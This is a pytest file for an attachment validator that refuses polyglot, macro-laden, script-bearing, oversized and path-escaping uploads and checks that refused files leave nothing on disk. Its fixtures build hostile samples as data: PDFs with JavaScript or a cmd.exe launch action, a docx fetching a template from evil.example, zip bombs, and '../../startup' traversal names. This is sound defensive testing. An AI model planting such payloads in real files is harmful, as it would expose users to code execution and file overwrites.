"""Attachments are checked on their whole structure (formats/attachment_check.py), not their
first bytes: polyglots, broken files, scripts, macros, programs, bombs and escaping names are
refused and leave nothing behind; the copy is on the disk before the commit and is removed
when the commit fails."""

from __future__ import annotations

import io
import os
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import sample_files as sf
from sqlalchemy import func, select

from rasad_desktop.db.models import RequestAttachment, RequestEvent
from rasad_desktop.services import attachments, requests
from rasad_desktop.services.errors import ValidationError
from rasad_desktop.services.uow import Audit


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(400)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)
JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL\\(\"http://x\"\\)) >>"


def _png_with_broken_body() -> bytes:
    data = bytearray(sf.image("PNG", (64, 64)))
    at = data.index(b"IDAT") + 10  # inside the compressed pixels: the chunk's CRC no longer matches
    data[at] ^= 0xFF
    return bytes(data)


def _jpeg_with_garbage_body() -> bytes:
    real = sf.image("JPEG", (64, 64))
    return real[:20] + bytes(range(256)) * 8  # a JPEG's first bytes, then no JPEG


def _docx_with_external_template() -> bytes:
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>')
    return sf.docx({"word/_rels/settings.xml.rels": rels.encode()})


# name, content, the refusal's code
ATTACKS: list[tuple[str, str, Callable[[], bytes], str]] = [
    # PDF
    ("a ZIP behind a PDF header", "نامه.pdf", lambda: b"%PDF-1.4\n" + _zip({"run.exe": EXE}), "attachment_polyglot"),
    ("a program behind a PDF header", "نامه.pdf", lambda: b"%PDF-1.4\n" + EXE, "attachment_content"),
    ("a web page behind a PDF header", "نامه.pdf",
     lambda: b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "attachment_polyglot"),
    ("a real PDF with a ZIP appended", "نامه.pdf", lambda: sf.pdf() + _zip({"run.exe": EXE}), "attachment_polyglot"),
    ("a real PDF with bytes after its end", "نامه.pdf", lambda: sf.pdf() + b"MZ trailing program",
     "attachment_content"),
    ("a PDF cut short", "نامه.pdf", lambda: sf.pdf()[:700], "attachment_content"),
    ("garbage after a PDF header", "نامه.pdf", lambda: b"%PDF-1.7\n" + random.Random(7).randbytes(4000) + b"\n%%EOF\n",
     "attachment_content"),
    ("a PDF that does not start at byte 0", "نامه.pdf", lambda: b" " + sf.pdf(), "attachment_content"),
    ("a PDF with no page", "نامه.pdf", lambda: sf.raw_pdf(count=0, kids=b""), "attachment_content"),
    ("a PDF that counts a page it does not have", "نامه.pdf", lambda: sf.raw_pdf(count=1, kids=b""),
     "attachment_content"),
    ("a PDF running a script when opened", "نامه.pdf", lambda: sf.raw_pdf(b"/OpenAction 4 0 R", (JS_ACTION,)),
     "attachment_active_content"),
    ("a PDF with a script in its name tree", "نامه.pdf",
     lambda: sf.raw_pdf(b"/Names << /JavaScript 4 0 R >>", (b"<< /Names [(a) 5 0 R] >>", JS_ACTION)),
     "attachment_active_content"),
    ("a PDF with a script spelt in #-escapes", "نامه.pdf",
     lambda: sf.raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "attachment_active_content"),
    ("a PDF with a script inside a compressed object stream", "نامه.pdf", lambda: sf.object_stream_pdf(True),
     "attachment_active_content"),
    ("a PDF with a script in an encrypted object stream", "نامه.pdf",
     lambda: sf.object_stream_pdf(True, owner_password="owner"), "attachment_active_content"),
    ("a PDF launching a program", "نامه.pdf",
     lambda: sf.raw_pdf(b"/OpenAction 4 0 R", (b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>",)),
     "attachment_active_content"),
    ("a PDF carrying an embedded file", "نامه.pdf",
     lambda: sf.raw_pdf(b"/Names << /EmbeddedFiles 4 0 R >>", (
         b"<< /Names [(a.exe) 5 0 R] >>", b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
         b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")), "attachment_active_content"),
    ("a PDF opening a web address by itself", "نامه.pdf",
     lambda: sf.raw_pdf(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"), "attachment_active_content"),
    ("a PDF locked with a password", "نامه.pdf", lambda: _encrypted_pdf("secret"), "attachment_encrypted"),
    ("a PDF whose cross-reference stream inflates to 80 MB", "نامه.pdf", lambda: sf.xref_stream_bomb(80),
     "attachment_bomb"),
    # images
    ("a PNG whose pixels are corrupt", "scan.png", _png_with_broken_body, "attachment_content"),
    ("a PNG cut short", "scan.png", lambda: sf.image("PNG", (64, 64))[:-30], "attachment_content"),
    ("a JPEG header over garbage", "scan.jpg", _jpeg_with_garbage_body, "attachment_content"),
    ("a JPEG cut short", "scan.jpg", lambda: sf.image("JPEG", (64, 64))[:300], "attachment_content"),
    ("a PNG named .jpg", "scan.jpg", lambda: sf.image("PNG"), "attachment_content"),
    ("a JPEG named .png", "scan.png", lambda: sf.image("JPEG"), "attachment_content"),
    ("a PNG of 900 million pixels", "scan.png", lambda: sf.png_of_size(30_000, 30_000), "attachment_bomb"),
    ("a PNG of 64 million pixels", "scan.png", lambda: sf.png_of_size(8_000, 8_000), "attachment_bomb"),
    ("a PNG with a ZIP appended", "scan.png", lambda: sf.image("PNG") + _zip({"run.exe": EXE}),
     "attachment_polyglot"),
    ("a JPEG with a ZIP appended", "scan.jpg", lambda: sf.image("JPEG") + _zip({"run.exe": EXE}),
     "attachment_polyglot"),
    # Word and Excel
    ("a docx holding a program", "نامه.docx", lambda: sf.docx({"word/media/setup.exe": EXE}),
     "attachment_active_content"),
    ("a docx holding a program under an innocent name", "نامه.docx",
     lambda: sf.docx({"word/media/image1.png": EXE}), "attachment_active_content"),
    ("a docx holding a script", "نامه.docx", lambda: sf.docx({"word/run.js": b"WScript.Shell"}),
     "attachment_active_content"),
    ("a docx holding an OLE compound file", "نامه.docx", lambda: sf.docx({"customXml/item9.xml": OLE}),
     "attachment_active_content"),
    ("a docx holding an OLE embedding", "نامه.docx", lambda: sf.docx({"word/embeddings/oleObject1.bin": b"x" * 64}),
     "attachment_active_content"),
    ("a docm (macros) named docx", "نامه.docx",
     lambda: sf.docx({"word/vbaProject.bin": OLE}, main=sf.DOCM_MAIN), "attachment_active_content"),
    ("a docx declaring itself macro-enabled", "نامه.docx", lambda: sf.docx(main=sf.DOCM_MAIN),
     "attachment_active_content"),
    ("a docx with macros under a plain content type", "نامه.docx", lambda: sf.docx({"word/vbaProject.bin": b"x"}),
     "attachment_active_content"),
    ("a docx fetching a remote template", "نامه.docx", _docx_with_external_template, "attachment_active_content"),
    ("a docx that unpacks to 60 MB", "نامه.docx", lambda: sf.docx({"word/media/big.xml": bytes(60 * 1024 * 1024)}),
     "attachment_bomb"),
    ("a docx with a part escaping the folder", "نامه.docx", lambda: sf.docx({"../../startup/x.txt": b"x"}),
     "attachment_path"),
    ("a docx with an absolute part name", "نامه.docx", lambda: sf.docx({"/etc/x": b"x"}), "attachment_path"),
    ("a docx with no document part", "نامه.docx", lambda: sf.docx(drop=("word/document.xml",)),
     "attachment_content"),
    ("a docx with no [Content_Types].xml", "نامه.docx", lambda: sf.docx(drop=("[Content_Types].xml",)),
     "attachment_content"),
    ("a ZIP named docx", "نامه.docx", lambda: _zip({"run.exe": EXE}), "attachment_active_content"),
    ("a plain ZIP named docx", "نامه.docx", lambda: _zip({"a.txt": b"hello"}), "attachment_content"),
    ("a workbook named docx", "نامه.docx", sf.xlsx, "attachment_content"),
    ("a ZIP cut short", "جدول.xlsx", lambda: sf.xlsx()[:-40], "attachment_content"),
    ("a workbook holding a program", "جدول.xlsx", lambda: _with_member(sf.xlsx(), "xl/media/a.png", EXE),
     "attachment_active_content"),
    ("an xlsm (macros) named xlsx", "جدول.xlsx", lambda: _with_member(sf.xlsx(), "xl/vbaProject.bin", OLE),
     "attachment_active_content"),
    # text (today's rule)
    ("text with NUL bytes", "نامه.txt", lambda: b"abc\x00def", "attachment_text"),
]


def _with_member(data: bytes, name: str, body: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, body)
    return out.getvalue()


def _encrypted_pdf(user_password: str, owner_password: str = "owner") -> bytes:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, encrypt=pdfencrypt.StandardEncryption(user_password, ownerPassword=owner_password))
    c.drawString(100, 700, "locked")
    c.showPage()
    c.save()
    return out.getvalue()


SOUND: list[tuple[str, Callable[[], bytes], str]] = [
    ("نامه.pdf", sf.pdf, "application/pdf"),
    ("سه-صفحه.pdf", lambda: sf.pdf(3), "application/pdf"),
    ("packed.pdf", lambda: sf.object_stream_pdf(False), "application/pdf"),
    ("xref-stream.pdf", lambda: sf.xref_stream_bomb(0), "application/pdf"),
    ("to-page-one.pdf", lambda: sf.raw_pdf(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    ("restricted.pdf", lambda: _encrypted_pdf(""), "application/pdf"),  # an owner password only: it opens
    ("restricted-packed.pdf", lambda: sf.object_stream_pdf(False, owner_password="owner"), "application/pdf"),
    ("scan.png", lambda: sf.image("PNG", (300, 200)), "image/png"),
    ("scan.jpg", lambda: sf.image("JPEG", (300, 200)), "image/jpeg"),
    ("scan.jpeg", lambda: sf.image("JPEG"), "image/jpeg"),
    ("نامه.docx", sf.docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("با-تصویر.docx", lambda: sf.docx({"word/media/image1.png": sf.image("PNG")}),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("جدول.xlsx", sf.xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("نامه.txt", lambda: "متن نامه\n".encode(), "text/plain"),
]


@pytest.mark.parametrize(("what", "name", "make", "code"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_each_attack_is_refused_by_its_structure(what: str, name: str, make: Callable[[], bytes], code: str) -> None:
    data = make()
    with pytest.raises(ValidationError) as err:
        attachments.attachment_type(name, data[:16], data)
    assert err.value.code == code, what
    assert any("\u0600" <= c <= "\u06ff" for c in err.value.message_fa) and err.value.message_en


@pytest.mark.parametrize(("name", "make", "media"), SOUND, ids=[s[0] for s in SOUND])
def test_sound_files_of_each_type_are_accepted(name: str, make: Callable[[], bytes], media: str) -> None:
    data = make()
    assert attachments.attachment_type(name, data[:16], data) == media


def test_a_failing_reader_is_a_refusal_not_a_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the PDF reader raises (here RecursionError, as deep nesting would) is a refusal."""
    from rasad_desktop.formats import attachment_check

    def deep(data: bytes) -> None:
        raise RecursionError("maximum recursion depth exceeded")
    monkeypatch.setattr(attachment_check, "_walk_pdf", deep)
    data = sf.pdf()
    with pytest.raises(ValidationError) as err:
        attachments.attachment_type("نامه.pdf", data[:16], data)
    assert err.value.code == "attachment_content"


def test_the_bounded_inflate_is_zlibs_own_outside_a_check() -> None:
    """The PDF check bounds pyHanko's inflate only while it runs: signing reports is unchanged."""
    import zlib

    from pyhanko.pdf_utils import filters

    data = sf.pdf()
    attachments.attachment_type("نامه.pdf", data[:16], data)  # installs the bounded inflate
    big = zlib.compress(bytes(80 * 1024 * 1024))
    assert len(filters.decompress(big)) == 80 * 1024 * 1024


# ------------------------------------------------------------------------------ through the service
@pytest.fixture
def code(session, clerk) -> str:  # type: ignore[no-untyped-def]
    view = requests.register(session, clerk, requests.NewRequest(
        "complaint", "in_person", "زهرا کریمی", "0499370899", "09141234567", "پیوست", "متن"), workstation=1)
    return view.tracking_code


def _kept(data_dir: Path) -> list[Path]:
    where = attachments.folder(data_dir)
    return sorted(where.iterdir()) if where.exists() else []


def _rows(session) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    session.rollback()
    return (session.scalar(select(func.count()).select_from(RequestAttachment)) or 0,
            session.scalar(select(func.count()).select_from(RequestEvent).where(RequestEvent.action == "attachment"))
            or 0)


THROUGH_SERVICE = ["a ZIP behind a PDF header", "a PDF running a script when opened", "a PDF launching a program",
                   "a PNG whose pixels are corrupt", "a PNG named .jpg", "a PNG of 900 million pixels",
                   "a docx holding a program under an innocent name", "a docm (macros) named docx",
                   "a docx that unpacks to 60 MB", "a docx with a part escaping the folder"]


@pytest.mark.parametrize("what", THROUGH_SERVICE)
def test_a_refused_attack_leaves_no_file_and_no_row(session, clerk, code, tmp_path, what) -> None:  # type: ignore[no-untyped-def]
    _, name, make, expected = next(a for a in ATTACKS if a[0] == what)
    source = tmp_path / name
    source.write_bytes(make())
    data_dir = tmp_path / "data"
    with pytest.raises(ValidationError) as err:
        attachments.add_attachment(session, clerk, code, source, data_dir)
    assert err.value.code == expected
    assert _kept(data_dir) == [] and _rows(session) == (0, 0)


def test_a_sound_file_is_stored_once_under_a_random_name(session, clerk, code, tmp_path) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "نامه.docx"
    source.write_bytes(sf.docx())
    data_dir = tmp_path / "data"
    first = attachments.add_attachment(session, clerk, code, source, data_dir)
    second = attachments.add_attachment(session, clerk, code, source, data_dir)
    assert _kept(data_dir) == sorted([first.path, second.path]) and first.path != second.path
    assert first.path.stem != "نامه" and len(first.path.stem) == 32 and first.path.suffix == ".docx"
    assert _rows(session) == (2, 2)


@pytest.mark.parametrize("where", ["audit", "flush", "commit"])
def test_a_failed_commit_leaves_no_file_and_no_row(session, clerk, code, tmp_path, monkeypatch, where) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "نامه.pdf"
    source.write_bytes(sf.pdf())
    data_dir = tmp_path / "data"
    written: list[Path] = []
    real_write = attachments.atomic.write_bytes

    def write_and_note(target, data):  # type: ignore[no-untyped-def]
        real_write(target, data)
        written.append(Path(target))
    monkeypatch.setattr(attachments.atomic, "write_bytes", write_and_note)

    def fail(*args, **kwargs):  # type: ignore[no-untyped-def]
        assert written and written[0].exists()  # the copy is on the disk when the failure comes
        raise OSError("the disk went away")
    if where == "audit":
        monkeypatch.setattr(Audit, "record", fail)
    elif where == "flush":
        real_flush = session.flush
        monkeypatch.setattr(session, "flush", lambda *a, **k: fail() if written else real_flush(*a, **k))
    else:
        real_commit = session.commit
        monkeypatch.setattr(session, "commit", lambda: fail() if written else real_commit())
    with pytest.raises(OSError):
        attachments.add_attachment(session, clerk, code, source, data_dir)
    monkeypatch.undo()
    assert len(written) == 1 and not written[0].exists()
    assert _kept(data_dir) == [] and _rows(session) == (0, 0)
    assert attachments.attachments(session, clerk, code, data_dir) == []


def test_the_copy_is_flushed_to_the_disk_before_the_commit(session, clerk, code, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "scan.png"
    source.write_bytes(sf.image("PNG"))
    data_dir = tmp_path / "data"
    events: list[tuple[str, str]] = []
    real_fsync, real_commit = os.fsync, session.commit

    def fsync(fd: int) -> None:
        events.append(("fsync", os.path.realpath(f"/proc/self/fd/{fd}") if Path("/proc/self/fd").is_dir() else "?"))
        real_fsync(fd)

    def commit() -> None:
        events.append(("commit", ""))
        real_commit()
    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(session, "commit", commit)
    view = attachments.add_attachment(session, clerk, code, source, data_dir)
    monkeypatch.undo()
    last_commit = max(i for i, (kind, _) in enumerate(events) if kind == "commit")
    if Path("/proc/self/fd").is_dir():
        synced_file = [i for i, (kind, path) in enumerate(events)
                       if kind == "fsync" and path == os.path.realpath(str(view.path) + ".part")]
        synced_folder = [i for i, (kind, path) in enumerate(events) if kind == "fsync" and path == os.path.realpath(view.path.parent)]
        assert synced_file and synced_file[0] < last_commit
        if os.name == "posix":
            assert synced_folder and synced_folder[0] < last_commit
    else:
        assert any(kind == "fsync" for kind, _ in events[:last_commit])
    assert view.path.read_bytes() == source.read_bytes()
